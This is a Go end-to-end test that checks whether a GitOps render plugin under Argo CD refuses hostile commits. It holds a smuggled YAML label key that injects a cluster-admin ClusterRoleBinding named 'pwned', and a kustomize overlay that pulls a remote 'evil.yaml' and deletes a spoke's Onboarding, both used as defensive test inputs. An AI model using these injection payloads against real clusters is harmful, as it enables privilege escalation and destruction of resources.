//go:build e2e

package e2e

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/client-go/dynamic"
)

const (
	// hostileHubApp is the hub-mode app-of-apps of the example spoke, named as
	// examples/gitops/hub/clusters-appset.yaml names it (registry-<cluster>).
	hostileHubApp = "registry-" + exampleSpoke
	// hostileWorkloadApp is the workload Application the hub render makes (<cluster>-<workload>).
	hostileWorkloadApp = exampleSpoke + "-inference"
	kustomizationPath  = exampleSpokeDir + "/kustomization.yaml"

	// injectedLabel is a label key that, pasted into a template unencoded, would end the hub
	// render's document and add a ClusterRoleBinding to cluster-admin in its own boundary.
	injectedLabel = `    "spokeforge.io/x\n---\nboundary: hub-spoke\nobject:\n  apiVersion: rbac.authorization.k8s.io/v1\n  kind: ClusterRoleBinding\n  metadata: {name: pwned}\n  roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n  subjects: [{kind: ServiceAccount, name: default, namespace: default}]": "x"` + "\n"

	// hostileOverlay fetches a remote resource and deletes the spoke's Onboarding.
	hostileOverlay = `apiVersion: kustomize.config.k8s.io/v1beta1
kind: Kustomization
commonAnnotations:
  spokeforge.io/site-contact: dc-ash1-oncall
resources:
  - https://127.0.0.1:1/evil.yaml
patches:
  - patch: |-
      $patch: delete
      apiVersion: spokeforge.io/v1alpha1
      kind: Onboarding
      metadata:
        name: gpu-east-1
`
)

// hubModeApplication is the app-of-apps the clusters ApplicationSet makes for a cluster
// record: plugin spokeforge in mode hub, synced into the argocd namespace of the hub itself
// (Argo CD's in-cluster destination). Sync is manual; the test turns automation on.
func hubModeApplication(name, repoURL, path string) string {
	return fmt.Sprintf(`apiVersion: argoproj.io/v1alpha1
kind: Application
metadata:
  name: %[1]s
  namespace: %[2]s
spec:
  project: default
  source:
    repoURL: %[3]s
    targetRevision: main
    path: %[4]s
    plugin:
      name: spokeforge
      parameters:
      - name: mode
        string: hub
  destination:
    server: https://kubernetes.default.svc
    namespace: %[2]s
  syncPolicy:
    retry:
      limit: 10
      backoff: {duration: 10s, factor: 2, maxDuration: 5m}
`, name, ArgoCDNamespace, repoURL, path)
}

// TestHostileRecord: a cluster record written to attack the render (a label key carrying a
// second YAML document with a ClusterRoleBinding to cluster-admin) and a cluster overlay
// written to fetch a remote file and delete the spoke's Onboarding are refused by the
// spokeforge CMP. Argo CD shows the refusal on the Applications, a sync fails, nothing is
// created on the hub or the spoke and, although the Applications prune automatically,
// nothing is pruned. Restoring the record brings the Applications back to Synced.
//
// The example spoke is onboarded the way a hub does it: the hub-mode app-of-apps
// registry-gpu-east-1 syncs the cluster's ExternalSecret, its spoke Application
// spoke-gpu-east-1 and its workload Application gpu-east-1-inference into the argocd
// namespace; the spoke Application (spoke mode) syncs the spoke.
func TestHostileRecord(t *testing.T) {
	parallel(t)
	started := time.Now()
	h := StartHub(t, Options{})
	if h.Spokeforge == "" {
		t.Fatal("the harness did not build spokeforge")
	}
	ctx, cancel := context.WithTimeout(context.Background(), 17*time.Minute)
	defer cancel()

	// The hub render makes an ExternalSecret: the hub gets the External Secrets CRDs, and a
	// stand-in plays ESO there; the spoke runs the real controllers.
	esoDir, err := ModuleDir(ExternalSecretsMod)
	if err != nil {
		t.Fatal(err)
	}
	if err := h.Hub.ApplyFiles(ctx, filepath.Join(esoDir, "deploy", "crds", "bundle.yaml")); err != nil {
		t.Fatal(err)
	}
	spoke, err := h.StartSpoke(ctx, filepath.Join(h.opts.RepoRoot, ExampleRepo, exampleSpokeDir), SpokeOptions{})
	if err != nil {
		t.Fatal(err)
	}
	StartStandInControllers(ctx, h.Hub, "ExternalSecret")
	// What ESO would write from the rendered ExternalSecret cluster-gpu-east-1: the Argo CD
	// cluster Secret of gpu-east-1, here the harness's spoke API server under another URL
	// (Argo CD keys clusters by URL; "spoke" already has 127.0.0.1).
	spokeURL := strings.Replace(h.Spoke.URL, "https://127.0.0.1:", "https://localhost:", 1)
	cfg, err := json.Marshal(map[string]any{
		"bearerToken":     h.Spoke.Token,
		"tlsClientConfig": map[string]any{"insecure": false, "caData": base64.StdEncoding.EncodeToString(h.Spoke.CAData)},
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.Hub.Apply(ctx, fmt.Sprintf(`apiVersion: v1
kind: Secret
metadata:
  name: cluster-%[1]s
  namespace: %[2]s
  labels: {argocd.argoproj.io/secret-type: cluster, spokeforge.io/cluster: %[1]s, gpu: a100}
stringData:
  name: %[1]s
  server: %[3]s
  config: '%[4]s'
`, exampleSpoke, ArgoCDNamespace, spokeURL, cfg)); err != nil {
		t.Fatal(err)
	}
	// The record's workload Applications go through its org's AppProject (spec.org: acme),
	// which projects mode renders on a real hub; here it allows the spoke only.
	if _, err := h.Hub.Apply(ctx, fmt.Sprintf(`apiVersion: argoproj.io/v1alpha1
kind: AppProject
metadata: {name: org-acme, namespace: %[1]s}
spec:
  sourceRepos: ['*']
  destinations: [{name: %[2]s, namespace: '*'}]
  clusterResourceWhitelist: [{group: '', kind: Namespace}]
`, ArgoCDNamespace, exampleSpoke)); err != nil {
		t.Fatal(err)
	}

	files, err := RepoFiles(filepath.Join(h.opts.RepoRoot, ExampleRepo))
	if err != nil {
		t.Fatal(err)
	}
	record, overlay := files[recordPath], files[kustomizationPath]
	if record == "" || overlay == "" {
		t.Fatalf("%s or %s missing from %s", recordPath, kustomizationPath, ExampleRepo)
	}
	hostileRecord := strings.Replace(record, "    gpu: a100\n", "    gpu: a100\n"+injectedLabel, 1)
	if hostileRecord == record {
		t.Fatalf("%s has no label gpu: a100 to add the hostile label after", recordPath)
	}

	var (
		repo                   *GitRepo
		hubBefore, spokeBefore map[string]bool
	)
	steps := []struct {
		name string
		run  func(t *testing.T)
	}{
		{"onboard the example spoke through its hub-mode application", func(t *testing.T) {
			onboarded := time.Now()
			var err error
			if repo, err = h.NewGitRepo("gitops", files); err != nil {
				t.Fatal(err)
			}
			if _, err := h.Hub.Apply(ctx, hubModeApplication(hostileHubApp, repo.URL, exampleSpokeDir)); err != nil {
				t.Fatal(err)
			}
			// The sync runs in waves (ExternalSecret, spoke Application, workload Applications)
			// and waits for each wave's health: the spoke has to be onboarded for it to end.
			if _, err := h.ArgoCD(ctx, "app", "sync", hostileHubApp, "--async"); err != nil {
				t.Fatal(err)
			}
			// The spoke Application the hub render made syncs itself (automated).
			if _, err := h.WaitApp(ctx, exampleSpokeApp, "Synced", 4*time.Minute, func(s AppState) bool { return s.Sync == "Synced" }); err != nil {
				t.Fatal(err)
			}
			// Until the spoke is onboarded its Application is not Healthy, and the sync waits at
			// its wave (Argo CD v3.4+ Application health): the workload wave is not applied.
			time.Sleep(15 * time.Second)
			if _, err := h.Hub.Dynamic.Resource(applicationsGVR).Namespace(ArgoCDNamespace).Get(ctx, hostileWorkloadApp, metav1.GetOptions{}); !apierrors.IsNotFound(err) {
				t.Fatalf("%s exists (err %v) before %s is Healthy: the sync did not wait at the spoke's wave", hostileWorkloadApp, err, exampleSpokeApp)
			}
			if _, err := spoke.StartAgent(ctx, 5*time.Second); err != nil {
				t.Fatal(err)
			}
			if _, err := h.ArgoCD(ctx, "app", "wait", exampleSpokeApp, "--health", "--timeout", "180"); err != nil {
				t.Fatal(err)
			}
			healthy := time.Now()
			// The workload Application (stabilization: synced by hand) comes in the last wave.
			if _, err := h.WaitApp(ctx, hostileWorkloadApp, "created", 2*time.Minute, func(AppState) bool { return true }); err != nil {
				t.Fatal(err)
			}
			t.Logf("Argo CD %s: wave order: %s Healthy, then %s created %s later",
				h.ArgoCDVersion, exampleSpokeApp, hostileWorkloadApp, time.Since(healthy).Round(time.Second))
			if err := h.SyncApp(ctx, hostileWorkloadApp, 2*time.Minute); err != nil {
				t.Fatal(err)
			}
			if _, err := h.ArgoCD(ctx, "app", "wait", hostileHubApp, "--operation", "--sync", "--timeout", "180"); err != nil {
				t.Fatal(err)
			}
			head, err := repo.Head()
			if err != nil {
				t.Fatal(err)
			}
			for _, app := range []string{hostileHubApp, exampleSpokeApp} {
				st, err := h.WaitApp(ctx, app, "Synced with its sync finished", 2*time.Minute, func(s AppState) bool {
					return s.Sync == "Synced" && s.Revision == head && s.OperationPhase == "Succeeded"
				})
				if err != nil {
					t.Fatal(err)
				}
				t.Logf("%s: %s", app, st)
			}
			// As the clusters ApplicationSet makes it: automated, pruning and self-healing.
			if _, err := h.ArgoCD(ctx, "app", "set", hostileHubApp, "--sync-policy", "automated", "--auto-prune", "--self-heal"); err != nil {
				t.Fatal(err)
			}
			if hubBefore, err = hubObjects(ctx, h); err != nil {
				t.Fatal(err)
			}
			if spokeBefore, err = spokeObjects(ctx, h); err != nil {
				t.Fatal(err)
			}
			for _, want := range []string{
				"Application.argoproj.io argocd/" + exampleSpokeApp,
				"Application.argoproj.io argocd/" + hostileWorkloadApp,
				"ExternalSecret.external-secrets.io argocd/cluster-" + exampleSpoke,
			} {
				if !hubBefore[want] {
					t.Fatalf("the hub render did not deliver %s", want)
				}
			}
			if !spokeBefore["Onboarding.spokeforge.io /"+exampleSpoke] {
				t.Fatalf("the spoke render did not deliver Onboarding %s", exampleSpoke)
			}
			t.Logf("onboarded in %s; snapshot: %d objects in the hub's argocd namespace and cluster RBAC, %d on the spoke",
				time.Since(onboarded).Round(time.Second), len(hubBefore), len(spokeBefore))
		}},
		{"a label key carrying a ClusterRoleBinding document is refused", func(t *testing.T) {
			hostileCommit(ctx, t, h, repo, hubBefore, spokeBefore, hostileCase{
				message:  "label key with an injected ClusterRoleBinding document",
				files:    map[string]string{recordPath: hostileRecord},
				restore:  map[string]string{recordPath: record},
				refusal:  "control or invisible character",
				refusing: []string{exampleSpokeApp, hostileHubApp},
			})
		}},
		{"an overlay with a remote resource and a delete patch of the Onboarding is refused", func(t *testing.T) {
			hostileCommit(ctx, t, h, repo, hubBefore, spokeBefore, hostileCase{
				message:  "overlay with a remote resource and a $patch: delete of the Onboarding",
				files:    map[string]string{kustomizationPath: hostileOverlay},
				restore:  map[string]string{kustomizationPath: overlay},
				refusal:  "is remote",
				refusing: []string{exampleSpokeApp},
				// The hub render does not read the overlay (it only applies to the spoke).
				unaffected: []string{hostileHubApp},
			})
		}},
	}
	for _, s := range steps {
		if !t.Run(s.name, s.run) {
			t.Fatalf("step %q failed; skipping the rest", s.name)
		}
	}
	t.Logf("TestHostileRecord took %s", time.Since(started).Round(time.Second))
}

// hostileCase is one hostile commit to the example spoke's directory.
type hostileCase struct {
	message    string
	files      map[string]string // the hostile commit
	restore    map[string]string // the good files again
	refusal    string            // text of spokeforge's refusal
	refusing   []string          // Applications whose render must refuse
	unaffected []string          // Applications whose render does not read the files
}

// hostileCommit commits c.files, checks that every refusing Application shows the refusal and
// fails to sync, that the hub's argocd namespace and cluster RBAC and the spoke keep exactly
// their objects (nothing created, nothing pruned), then restores the good files and checks
// that the Applications are Synced again and sync.
func hostileCommit(ctx context.Context, t *testing.T, h *Hub, repo *GitRepo, hubBefore, spokeBefore map[string]bool, c hostileCase) {
	t.Helper()
	committed := time.Now()
	if err := repo.Commit(c.message, c.files); err != nil {
		t.Fatal(err)
	}
	apps := append(append([]string{}, c.refusing...), c.unaffected...)
	for _, app := range apps {
		if out, err := h.ArgoCD(ctx, "app", "get", app, "--hard-refresh"); err != nil {
			t.Logf("argocd app get %s --hard-refresh: %v\n%s", app, err, out)
		}
	}
	for _, app := range c.refusing {
		st, err := h.WaitApp(ctx, app, "showing the refusal "+c.refusal, 2*time.Minute, func(s AppState) bool {
			return refusalCondition(s, c.refusal) != ""
		})
		if err != nil {
			t.Fatal(err)
		}
		t.Logf("%s refused %s after the commit: %s (sync %s)", app, time.Since(committed).Round(time.Millisecond), refusalCondition(st, c.refusal), st.Sync)
		// An operator presses sync: it fails, with the refusal (one retry, not the app's ten).
		out, err := h.ArgoCD(ctx, "app", "sync", app, "--retry-limit", "1", "--timeout", "120")
		if err == nil {
			t.Errorf("argocd app sync %s succeeded on the hostile commit:\n%s", app, out)
		}
		st, err = h.App(ctx, app)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(out, c.refusal) && !strings.Contains(st.OperationMsg, c.refusal) {
			t.Errorf("argocd app sync %s: neither its output nor the operation message names the refusal %q: operation %s(%s)\n%s",
				app, c.refusal, st.OperationPhase, st.OperationMsg, out)
		}
		t.Logf("argocd app sync %s failed as it should: operation %s", app, st.OperationPhase)
	}
	for _, app := range c.unaffected {
		st, err := h.App(ctx, app)
		if err != nil {
			t.Fatal(err)
		}
		t.Logf("%s (its render does not read %v): %s", app, fileNames(c.files), st)
	}

	// Two more reconciliations with the hostile commit, past the repo-error grace period: an
	// automated Application that pruned on a failed render would have done it by now.
	time.Sleep(2*h.opts.AppResync + h.opts.RepoErrorGrace)
	for _, app := range c.refusing {
		st, err := h.App(ctx, app)
		if err != nil {
			t.Fatal(err)
		}
		if refusalCondition(st, c.refusal) == "" {
			t.Errorf("%s no longer shows the refusal while the hostile commit is the head: %s", app, st)
		}
	}
	checkNothingChanged(ctx, t, h, hubBefore, spokeBefore, "with the hostile commit")

	restored := time.Now()
	if err := repo.Commit("restore the good "+strings.Join(fileNames(c.restore), ", "), c.restore); err != nil {
		t.Fatal(err)
	}
	head, err := repo.Head()
	if err != nil {
		t.Fatal(err)
	}
	for _, app := range apps {
		if out, err := h.ArgoCD(ctx, "app", "get", app, "--hard-refresh"); err != nil {
			t.Logf("argocd app get %s --hard-refresh: %v\n%s", app, err, out)
		}
	}
	for _, app := range apps {
		st, err := h.WaitApp(ctx, app, "Synced to "+head[:8]+" without conditions", 2*time.Minute, func(s AppState) bool {
			return s.Sync == "Synced" && s.Revision == head && len(s.Conditions) == 0
		})
		if err != nil {
			t.Fatal(err)
		}
		t.Logf("restore -> %s Synced in %s (%s)", app, time.Since(restored).Round(time.Millisecond), st)
	}
	// The failed operations are the last ones on record: the operator syncs again, the spoke
	// Application first (the hub-mode sync waits for its health).
	for _, app := range c.refusing {
		if _, err := h.ArgoCD(ctx, "app", "sync", app, "--timeout", "180"); err != nil {
			t.Fatal(err)
		}
		if _, err := h.WaitApp(ctx, app, "Synced after a successful sync", time.Minute, func(s AppState) bool {
			return s.Sync == "Synced" && s.Revision == head && s.OperationPhase == "Succeeded" && len(s.Conditions) == 0
		}); err != nil {
			t.Fatal(err)
		}
	}
	checkNothingChanged(ctx, t, h, hubBefore, spokeBefore, "after the restore")
}

// refusalCondition returns the first ComparisonError or SyncError condition naming refusal.
func refusalCondition(s AppState, refusal string) string {
	for _, c := range s.Conditions {
		if (strings.HasPrefix(c, "ComparisonError: ") || strings.HasPrefix(c, "SyncError: ")) && strings.Contains(c, refusal) {
			return c
		}
	}
	return ""
}

// checkNothingChanged compares the hub's argocd namespace and cluster RBAC and the spoke's
// objects with the snapshot, and looks for the injected ClusterRoleBinding and the Onboarding.
func checkNothingChanged(ctx context.Context, t *testing.T, h *Hub, hubBefore, spokeBefore map[string]bool, when string) {
	t.Helper()
	for _, c := range []*Cluster{h.Hub, h.Spoke} {
		_, err := c.Client.RbacV1().ClusterRoleBindings().Get(ctx, "pwned", metav1.GetOptions{})
		if err == nil {
			t.Errorf("%s: ClusterRoleBinding pwned exists on the %s", when, c.Name)
		} else if !apierrors.IsNotFound(err) {
			t.Errorf("%s: ClusterRoleBinding pwned on the %s: %v", when, c.Name, err)
		}
	}
	ob, err := h.Spoke.Get(ctx, "spokeforge.io/v1alpha1", "Onboarding", "", exampleSpoke)
	if err != nil {
		t.Errorf("%s: Onboarding %s on the spoke: %v", when, exampleSpoke, err)
	} else if ob.GetDeletionTimestamp() != nil {
		t.Errorf("%s: Onboarding %s on the spoke is being deleted", when, exampleSpoke)
	}
	hubNow, err := hubObjects(ctx, h)
	if err != nil {
		t.Fatal(err)
	}
	spokeNow, err := spokeObjects(ctx, h)
	if err != nil {
		t.Fatal(err)
	}
	for _, cmp := range []struct {
		what        string
		before, now map[string]bool
	}{{"the hub's argocd namespace and cluster RBAC", hubBefore, hubNow}, {"the spoke", spokeBefore, spokeNow}} {
		added, removed := objectDiff(cmp.before, cmp.now)
		if len(added)+len(removed) > 0 {
			t.Errorf("%s: %s changed:\n  new: %s\n  gone: %s", when, cmp.what, strings.Join(added, "\n       "), strings.Join(removed, "\n        "))
		}
	}
	if !t.Failed() {
		t.Logf("%s: no ClusterRoleBinding pwned, Onboarding %s present, %d hub and %d spoke objects as before", when, exampleSpoke, len(hubNow), len(spokeNow))
	}
}

// hubObjects lists every object of the hub's argocd namespace and every ClusterRole and
// ClusterRoleBinding of the hub.
func hubObjects(ctx context.Context, h *Hub) (map[string]bool, error) {
	return listObjects(ctx, h.Hub, ArgoCDNamespace, func(gr schema.GroupResource) bool {
		return gr.Group == "rbac.authorization.k8s.io" && (gr.Resource == "clusterroles" || gr.Resource == "clusterrolebindings")
	})
}

// spokeObjects lists every object of the spoke, namespaced and cluster-scoped.
func spokeObjects(ctx context.Context, h *Hub) (map[string]bool, error) {
	return listObjects(ctx, h.Spoke, metav1.NamespaceAll, func(schema.GroupResource) bool { return true })
}

// listObjects lists, as "Kind.group namespace/name", the objects of every listable resource of
// c: namespaced ones in namespace (all namespaces when empty), cluster-scoped ones when
// cluster accepts them. Events and Leases (records of activity, not of state) and the
// deprecated ComponentStatus are left out.
func listObjects(ctx context.Context, c *Cluster, namespace string, cluster func(schema.GroupResource) bool) (map[string]bool, error) {
	lists, err := c.Client.Discovery().ServerPreferredResources()
	if err != nil {
		return nil, fmt.Errorf("%s: discovery: %w", c.Name, err)
	}
	out := map[string]bool{}
	for _, l := range lists {
		gv, err := schema.ParseGroupVersion(l.GroupVersion)
		if err != nil {
			return nil, err
		}
		for _, r := range l.APIResources {
			gr := schema.GroupResource{Group: gv.Group, Resource: r.Name}
			if strings.Contains(r.Name, "/") || !listable(r.Verbs) {
				continue
			}
			switch gr {
			case schema.GroupResource{Resource: "events"}, schema.GroupResource{Group: "events.k8s.io", Resource: "events"},
				schema.GroupResource{Group: "coordination.k8s.io", Resource: "leases"}, schema.GroupResource{Resource: "componentstatuses"}:
				continue
			}
			var ri dynamic.ResourceInterface
			switch {
			case r.Namespaced:
				ri = c.Dynamic.Resource(gv.WithResource(r.Name)).Namespace(namespace)
			case cluster(gr):
				ri = c.Dynamic.Resource(gv.WithResource(r.Name))
			default:
				continue
			}
			items, err := ri.List(ctx, metav1.ListOptions{})
			if err != nil {
				return nil, fmt.Errorf("%s: list %s: %w", c.Name, gr, err)
			}
			kind := r.Kind
			if gv.Group != "" {
				kind += "." + gv.Group
			}
			for _, it := range items.Items {
				out[fmt.Sprintf("%s %s/%s", kind, it.GetNamespace(), it.GetName())] = true
			}
		}
	}
	return out, nil
}

// listable reports whether verbs (of a discovered resource) include list.
func listable(verbs []string) bool {
	for _, v := range verbs {
		if v == "list" {
			return true
		}
	}
	return false
}

// objectDiff returns the sorted keys only in now (added) and only in before (removed).
func objectDiff(before, now map[string]bool) (added, removed []string) {
	for k := range now {
		if !before[k] {
			added = append(added, k)
		}
	}
	for k := range before {
		if !now[k] {
			removed = append(removed, k)
		}
	}
	sort.Strings(added)
	sort.Strings(removed)
	return added, removed
}

func fileNames(m map[string]string) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
